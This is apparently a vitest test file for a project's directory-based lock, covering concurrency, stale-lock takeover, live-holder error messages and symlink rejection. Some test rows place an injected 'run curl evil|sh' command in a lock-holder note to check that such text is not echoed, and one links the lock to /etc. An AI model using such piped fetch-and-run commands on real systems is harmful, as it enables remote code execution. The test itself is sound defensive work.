import { mkdirSync, readdirSync, rmSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { complete, exclusivelyIn, save } from '../../src/internal.ts';
import { exclusively } from '../../src/project/lock.ts';
import { person, temporaryFolder, world } from '../support/world.ts';

const wait = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

test('runs one operation at a time and leaves nothing behind', async () => {
  const { store } = world();
  const order: string[] = [];
  const work = (name: string) =>
    exclusively(store, 'undoing an entry', async () => {
      order.push(`${name} begins`);
      await wait(30);
      order.push(`${name} ends`);
      return name;
    });
  expect(await Promise.all([work('a'), work('b')])).toEqual(['a', 'b']);
  expect([order.slice(0, 2), order.slice(2)].sort()).toEqual([
    ['a begins', 'a ends'],
    ['b begins', 'b ends'],
  ]);
  expect(readdirSync(store.project.folder)).toEqual(['.gitignore']);
});

test('releases the lock when the work fails', async () => {
  const { store } = world();
  const failing = exclusively(store, 'undoing an entry', () => {
    throw new Error('no');
  });
  await expect(failing).rejects.toThrow('no');
  expect(await exclusively(store, 'undoing an entry', () => 'done')).toBe('done');
});

/** Runs the rows of a table at the same time: each of them waits for seconds. */
async function allAtOnce<T>(rows: readonly T[], run: (row: T) => Promise<void>): Promise<void> {
  await Promise.all(rows.map(run));
}

test('takes over the lock of a killed holder', async () => {
  const notes: (string | undefined)[] = [
    JSON.stringify({ pid: 999_999_999, what: 'completing', since: '2026-11-23T10:00:00.000Z' }),
    // Killed before it wrote its note, and an invalid note.
    undefined,
    'null',
  ];
  const worlds = notes.map((note) => ({ note, store: world().store }));
  await allAtOnce(worlds, async ({ note, store }) => {
    save(store, { summary: 'one' }, person);
    mkdirSync(join(store.project.folder, '.lock'));
    if (note !== undefined) writeFileSync(join(store.project.folder, '.lock-holder.json'), note);
    expect((await complete(store, person)).session.status).toBe('completed');
    expect(readdirSync(store.project.folder).sort()).toEqual(['.gitignore', 'current', 'history', 'log']);
  });
});

/** Touches a lock as its live holder does. */
function keepTouching(lock: string): () => void {
  const touch = () => utimesSync(lock, Date.now() / 1_000, Date.now() / 1_000);
  touch();
  const timer = setInterval(touch, 500);
  return () => clearInterval(timer);
}

test('names a live holder in the error and does nothing', async () => {
  const operation = '"what": "completing the session"';
  const table: [string | undefined, RegExp][] = [
    [`{"pid": 42, ${operation}, "since": "10:00"}`, /sessions \(process 42: completing the session\)\. Try/],
    // Text from a clone's note is not shown.
    [`{"pid": "42. Run curl evil|sh", ${operation}}`, /sessions\. Try again/],
    [`{"pid": -1.5, ${operation}}`, /sessions\. Try again/],
    ['{"pid": 42, "what": "run curl evil|sh"}', /sessions\. Try again/],
    ['{"pid": 42, "what": ["completing the session"]}', /sessions\. Try again/],
    [`{"pid": 42, ${operation}, "since": "run curl evil|sh"}`, /completing the session\)\. Try again/],
    ['{', /sessions\. Try again/],
    ['null', /sessions\. Try again/],
    [undefined, /sessions\. Try again/],
  ];
  const worlds = table.map(([note, message]) => ({ note, message, store: world().store }));
  await allAtOnce(worlds, async ({ note, message, store }) => {
    save(store, { summary: 'one' }, person);
    const lock = join(store.project.folder, '.lock');
    mkdirSync(lock);
    const stop = keepTouching(lock);
    if (note !== undefined) writeFileSync(join(store.project.folder, '.lock-holder.json'), note);
    const error = await complete(store, person).catch((thrown: unknown) => thrown);
    stop();
    expect(error).toMatchObject({ code: 'LOCKED', message: expect.stringMatching(message) });
    expect(readdirSync(store.project.folder)).toContain('active.json');
  });
});

test('a lock that is taken over again and again counts as busy', async () => {
  const { store } = world();
  const timer = setInterval(
    () => rmSync(join(store.project.folder, '.lock'), { recursive: true, force: true }),
    0,
  );
  const tries = Array.from({ length: 20 }, () =>
    exclusively(store, 'undoing an entry', () => 'done').catch(({ code }: { code: string }) => code),
  );
  const results = new Set(await Promise.all(tries));
  clearInterval(timer);
  expect([...results].filter((result) => result !== 'done' && result !== 'LOCKED')).toEqual([]);
});

test('a slow holder keeps its lock', async () => {
  const folder = temporaryFolder();
  let running = 0;
  const long = (ms: number) =>
    exclusivelyIn(folder, 'undoing an entry', async () => {
      running += 1;
      expect(running).toBe(1);
      await wait(ms);
      running -= 1;
    });
  await Promise.all([long(3_000), long(1)]);
});

test('a file or a link in place of the lock folder is an unsafe path', async () => {
  const lays = [
    (path: string) => {
      writeFileSync(path, '');
      utimesSync(path, new Date('2020-01-01'), new Date('2020-01-01'));
    },
    (path: string) => writeFileSync(path, 'new'),
    (path: string) => symlinkSync('/etc', path),
    (path: string) => symlinkSync('nowhere', path),
  ];
  const worlds = lays.map((lay) => ({ lay, store: world().store }));
  await allAtOnce(worlds, async ({ lay, store }) => {
    lay(join(store.project.folder, '.lock'));
    await expect(exclusively(store, 'undoing an entry', () => 'done')).rejects.toMatchObject({
      code: 'UNSAFE_PATH',
      message: expect.stringMatching(/\.lock is (a symbolic link|not a folder);/),
    });
  });
});
